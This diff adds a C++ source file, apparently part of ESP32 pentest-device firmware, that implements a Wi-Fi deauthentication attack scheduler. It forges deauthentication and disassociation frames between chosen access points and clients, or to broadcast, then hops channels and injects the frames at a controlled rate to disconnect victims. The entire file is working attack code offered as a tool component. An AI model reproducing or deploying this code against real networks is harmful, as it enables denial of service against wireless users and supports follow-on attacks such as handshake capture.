@@ -0,0 +1,157 @@
+#include "deauth_scheduler.h"
+#include "wifi_atks.h"
+#include <algorithm>
+#include <esp_timer.h>
+#include <esp_wifi.h>
+
+static const uint8_t broadcastMac[6] = {0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF};
+
+static void
+buildFrame(uint8_t *frame, uint8_t subtype, const uint8_t *to, const uint8_t *from, const uint8_t *bssid) {
+    memcpy(frame, deauth_frame_default, DEAUTH_FRAME_LEN);
+    frame[0] = subtype;
+    memcpy(frame + 4, to, 6);
+    memcpy(frame + 10, from, 6);
+    memcpy(frame + 16, bssid, 6);
+}
+
+void DeauthScheduler::clear() {
+    targets.clear();
+    groups.clear();
+    group = -1;
+    cursor = 0;
+    switches = 0;
+}
+
+void DeauthScheduler::setRate(float fps, uint16_t burst) {
+    rate = fps;
+    this->burst = burst;
+}
+
+/*********************************************************************
+**  Function: addTarget
+**  Builds the frames of the pair once and regroups targets by channel
+**********************************************************************/
+void DeauthScheduler::addTarget(const uint8_t *bssid, uint8_t channel, const uint8_t *client) {
+    DeauthTarget t = {};
+    memcpy(t.bssid, bssid, 6);
+    memcpy(t.client, client != nullptr ? client : broadcastMac, 6);
+    t.channel = channel;
+    t.tokens = burst;
+    buildFrame(t.frames[0], 0xc0, t.client, t.bssid, t.bssid); // Deauth AP -> STA
+    buildFrame(t.frames[1], 0xa0, t.client, t.bssid, t.bssid); // Disassociate AP -> STA
+    t.frameCount = 2;
+    if (client != nullptr && memcmp(client, broadcastMac, 6) != 0) {
+        buildFrame(t.frames[2], 0xc0, t.bssid, t.client, t.bssid); // Deauth STA -> AP
+        buildFrame(t.frames[3], 0xa0, t.bssid, t.client, t.bssid); // Disassociate STA -> AP
+        t.frameCount = 4;
+    }
+
+    auto byChannel = [](uint8_t ch, const DeauthTarget &t) { return ch < t.channel; };
+    targets.insert(std::upper_bound(targets.begin(), targets.end(), channel, byChannel), t);
+
+    groups.clear();
+    for (size_t i = 0; i < targets.size(); i++) {
+        if (i == 0 || targets[i].channel != targets[i - 1].channel) groups.push_back({i, i + 1});
+        else groups.back().end = i + 1;
+    }
+    group = -1;
+}
+
+void DeauthScheduler::refill(int64_t now) {
+    float elapsed = (now - lastRefill) / 1000000.0f;
+    lastRefill = now;
+    for (auto &t : targets) t.tokens = min(t.tokens + rate * elapsed, burst);
+}
+
+bool DeauthScheduler::groupReady(size_t g) const {
+    for (size_t i = groups[g].start; i < groups[g].end; i++) {
+        if (targets[i].tokens >= 1) return true;
+    }
+    return false;
+}
+
+/*********************************************************************
+**  Function: selectGroup
+**  Picks the next channel with pairs waiting, in channel order so no
+**  channel starves, and only touches the radio when it changes
+**********************************************************************/
+bool DeauthScheduler::selectGroup(int64_t now, bool leave) {
+    size_t n = groups.size();
+    size_t first = group < 0 ? 0 : group + 1;
+    for (size_t k = 0; k < n; k++) {
+        size_t g = (first + k) % n;
+        if ((int)g == group && leave) continue;
+        if (!groupReady(g)) continue;
+        if ((int)g != group) {
+            group = g;
+            cursor = groups[g].start;
+            dwellStart = now;
+            uint8_t ch = targets[cursor].channel;
+            if (ch != currentChannel) {
+                esp_wifi_set_channel(ch, WIFI_SECOND_CHAN_NONE);
+                currentChannel = ch;
+                switches++;
+            }
+        }
+        return true;
+    }
+    return false;
+}
+
+uint32_t DeauthScheduler::run(uint32_t budgetMs) {
+    if (targets.empty()) return 0;
+    int64_t now = esp_timer_get_time();
+    int64_t end = now + budgetMs * 1000LL;
+    if (lastRefill == 0 || now - lastRefill > budgetMs * 1000LL) lastRefill = now;
+    uint32_t sentNow = 0;
+
+    while ((now = esp_timer_get_time()) < end) {
+        refill(now);
+        bool dwellOver = now - dwellStart > DEAUTH_MAX_DWELL_MS * 1000LL;
+        if (group < 0 || !groupReady(group) || dwellOver) {
+            // stay on the channel when nobody else is waiting
+            if (!selectGroup(now, dwellOver) && (group < 0 || !groupReady(group))) {
+                vTaskDelay(1);
+                continue;
+            }
+            if (dwellOver) dwellStart = now;
+        }
+
+        DeauthTarget &t = targets[cursor];
+        if (++cursor == groups[group].end) cursor = groups[group].start;
+        if (t.tokens < 1) continue;
+        if (esp_wifi_80211_tx(WIFI_IF_AP, t.frames[t.nextFrame], DEAUTH_FRAME_LEN, false) != ESP_OK) {
+            vTaskDelay(1); // TX queue is full
+            continue;
+        }
+        t.tokens -= 1;
+        t.sent++;
+        t.nextFrame = (t.nextFrame + 1) % t.frameCount;
+        sentNow++;
+    }
+    return sentNow;
+}
+
+void DeauthScheduler::printReport() const {
+    Serial.printf("Deauth: %u targets, %lu channel switches\n", targets.size(), (unsigned long)switches);
+    for (const auto &t : targets) {
+        Serial.printf(
+            "  %02X:%02X:%02X:%02X:%02X:%02X -> %02X:%02X:%02X:%02X:%02X:%02X ch %u: %lu frames\n",
+            t.bssid[0],
+            t.bssid[1],
+            t.bssid[2],
+            t.bssid[3],
+            t.bssid[4],
+            t.bssid[5],
+            t.client[0],
+            t.client[1],
+            t.client[2],
+            t.client[3],
+            t.client[4],
+            t.client[5],
+            t.channel,
+            (unsigned long)t.sent
+        );
+    }
+}